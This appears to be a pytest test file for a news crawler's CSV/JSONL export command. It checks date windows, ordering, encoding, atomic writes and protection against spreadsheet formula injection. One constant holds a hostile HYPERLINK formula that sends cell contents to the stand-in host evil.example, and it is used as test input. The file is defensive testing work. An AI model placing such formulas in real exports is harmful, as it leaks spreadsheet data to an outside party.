"""`dibao export`: rows that are lost, changed or run as a program between the store and an analyst's table."""

from __future__ import annotations

import csv
import io
import json
import re
import unicodedata
from datetime import date, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import func, select

from crawler.analysts.export import COLUMNS
from crawler.analysts.tables import guarded
from crawler.config import Config
from crawler.run import SHANGHAI, shanghai_day
from models.articles import Article
from models.store import Store
from scripts.airflow_home import CHECKOUT
from tests.command import dibao
from tests.corpus.sample import Night, Rows, fill, write_night, write_text

DAY = date(2026, 6, 15)
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"看")'


def as_rows(output: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(output.decode(), newline="")))


def put(store: Store, *texts: dict[str, Any]) -> None:
    """Store articles of a publisher of which nothing else is there."""
    night, rows = Night("tibet_net", DAY, DAY + timedelta(days=1)), Rows()
    store.write(lambda connection: fill(connection, []))
    write_night(rows, night)
    at = datetime(2026, 6, 15, 10, tzinfo=SHANGHAI)
    for each in texts:
        told = {"title": "题", "paragraphs": ["一", "二"], "text": each["key"], "published": at, **each}
        write_text(rows, night, crawled_at=at, **told)
    store.write(rows.write)


def test_every_article_of_the_window_is_there_once_and_no_other(store: Store, config: Config) -> None:
    store.write(fill)
    done = dibao("export", "sina_finance", "--from", "2026-06-14", "--to", "2026-06-16")
    with store.reading() as connection:
        wanted = sorted(
            str(id_)
            for id_, moment in connection.execute(
                select(Article.id, Article.published_at).where(Article.publisher == "sina_finance")
            )
            if shanghai_day(moment) in (date(2026, 6, 14), DAY)
        )
    found = as_rows(done.stdout_bytes)
    assert sorted(row["article_id"] for row in found) == wanted
    assert {row["published_day"] for row in found} == {"2026-06-14", "2026-06-15"}
    assert f"{len(wanted)} articles" in done.stderr
    # One day is what `--from` alone means, as everywhere.
    alone = as_rows(dibao("export", "sina_finance", "--from", "2026-06-15").stdout_bytes)
    assert alone == [row for row in found if row["published_day"] == "2026-06-15"]


def test_both_formats_say_the_same_in_the_same_order_each_time(store: Store, config: Config) -> None:
    store.write(fill)
    tables = [dibao("export", "--all", "--from", "2026-06-10", "--to", "2026-06-17").stdout_bytes for _ in range(2)]
    assert tables[0] == tables[1]
    lines = dibao("export", "--all", "--from", "2026-06-10", "--to", "2026-06-17", "--format", "jsonl").stdout
    found = [json.loads(line) for line in lines.splitlines()]
    assert [list(row) for row in found] == [list(COLUMNS)] * len(found)
    shown = [
        {name: "" if value is None else str(value).lower() if value in (True, False) else str(value)
         for name, value in row.items() if name != "revision"}
        for row in found
    ]  # fmt: skip
    assert shown == [{k: v for k, v in row.items() if k != "revision"} for row in as_rows(tables[0])]
    moments = [(row["published_day"], row["published_time"]) for row in found]
    assert moments == sorted(moments)


def test_an_article_without_a_time_is_in_the_whole_export_and_is_told_of_where_a_window_leaves_it_out(
    store: Store, config: Config
) -> None:
    put(store, {"key": "dated"}, {"key": "undated", "published": None})
    whole = dibao("export", "--all")
    assert [row["key"] for row in as_rows(whole.stdout_bytes)] == ["dated", "undated"]
    window = dibao("export", "tibet_net", "--from", "2026-06-15")
    assert [row["key"] for row in as_rows(window.stdout_bytes)] == ["dated"]
    assert "1 more print no time" in window.stderr
    assert "no time" not in whole.stderr


def test_a_formula_of_a_hostile_page_is_text_in_a_spreadsheet_and_is_itself_in_json(
    store: Store, config: Config
) -> None:
    texts = [HOSTILE, "+1", "-2+3", "@SUM(A1)", "\t=1", " =1", "＝1", "'quoted", "普通，标题\r\n第二行"]
    put(store, *({"key": f"{n}", "title": title, "source": title, "authors": [title], "paragraphs": [title, "=2"]}
                 for n, title in enumerate(texts)))  # fmt: skip
    rows = {row["key"]: row for row in as_rows(dibao("export", "--all").stdout_bytes)}
    exact = [json.loads(line) for line in dibao("export", "--all", "--format", "jsonl").stdout.splitlines()]
    assert len(rows) == len(exact) == len(texts)
    for row in exact:
        assert row["title"] == texts[int(row["key"])]
        for name in ("title", "source", "authors", "body"):
            cell = rows[row["key"]][name]
            assert cell.lstrip()[:1] not in tuple("=+-@＝"), cell
            assert cell.removeprefix("'") == row[name]


@given(st.text())
def test_no_cell_can_begin_a_formula_and_each_can_be_read_back(text: str) -> None:
    cell = guarded(text)
    seen = "".join(c for c in cell if unicodedata.category(c)[0] not in "ZC")
    assert seen[:1] not in tuple("=+-@＝＋－＠")
    assert cell.removeprefix("'") == text


def test_excel_is_told_that_it_is_utf_8_only_where_asked(store: Store, config: Config) -> None:
    put(store, {"key": "1"})
    plain, marked = dibao("export", "--all").stdout_bytes, dibao("export", "--all", "--bom").stdout_bytes
    assert plain.startswith(b"article_id,")
    assert marked == b"\xef\xbb\xbf" + plain


def test_a_file_is_there_whole_or_not_at_all(
    store: Store, config: Config, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    put(store, {"key": "1"})
    out = tmp_path / "out.csv"
    assert dibao("export", "--all", "--out", str(out)).exit_code == 0
    whole = out.read_bytes()
    assert whole == dibao("export", "--all").stdout_bytes

    def torn(*_: object) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr("crawler.analysts.export._rows", torn)
    failed = dibao("export", "--all", "--out", str(out))
    assert failed.exit_code == 1
    assert "No space left" in failed.output
    assert out.read_bytes() == whole
    assert [path.name for path in tmp_path.glob("*out*")] == ["out.csv"]


@pytest.mark.parametrize(
    "words",
    [
        (),
        ("sina_finance", "--all"),
        ("nowhere",),
        ("--all", "--to", "2026-06-15"),
        ("--all", "--from", "June"),
        ("--all", "--from", "2026-06-15", "--to", "2026-06-15"),
        ("--all", "--format", "jsonl", "--bom"),
    ],
)
def test_what_is_typed_wrongly_exports_nothing(words: tuple[str, ...], config: Config) -> None:
    done = dibao("export", *words)
    assert (done.exit_code, done.stdout) == (2, "")


def test_thousands_of_articles_are_all_there(store: Store, config: Config) -> None:
    store.write(fill)
    with store.reading() as connection:
        count = connection.execute(select(func.count()).select_from(Article.__table__)).scalar_one()
    assert len(as_rows(dibao("export", "--all").stdout_bytes)) == count > 1000


def test_the_columns_are_documented_in_their_order() -> None:
    section = (CHECKOUT / "docs" / "analysing.md").read_text(encoding="utf-8").split("## Exporting")[1]
    listed = re.search(r"```\n(article_id,.+?)```", section, re.S)
    assert listed is not None
    assert tuple("".join(listed[1].split()).split(",")) == COLUMNS
